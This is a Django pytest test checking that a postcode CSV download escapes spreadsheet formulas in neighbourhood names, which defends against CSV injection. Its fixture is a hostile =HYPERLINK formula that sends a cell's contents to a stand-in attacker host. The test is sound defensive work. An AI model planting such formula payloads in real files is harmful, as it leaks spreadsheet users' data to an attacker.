"""The postcode download on the small borough: what an Editor types never runs as a formula
when the file is opened in a spreadsheet (OWASP's CSV injection)."""

import csv
import io

import pytest

from neighbourhoods.models import Neighbourhood

pytestmark = pytest.mark.django_db


def test_a_name_written_as_a_formula_is_text_in_the_postcode_csv(borough, client):
    """An Editor's neighbourhood name beginning with = must not run in a spreadsheet."""
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    Neighbourhood.objects.filter(pk=borough.london_fields.pk).update(name=evil)
    text = client.get("/api/v1/postcodes.csv").content.decode()
    rows = list(csv.DictReader(line for line in io.StringIO(text) if not line.startswith("#")))
    names = {row["neighbourhood"] for row in rows}
    assert "'" + evil in names
    assert not any(str(value).startswith("=") for row in rows for value in row.values())
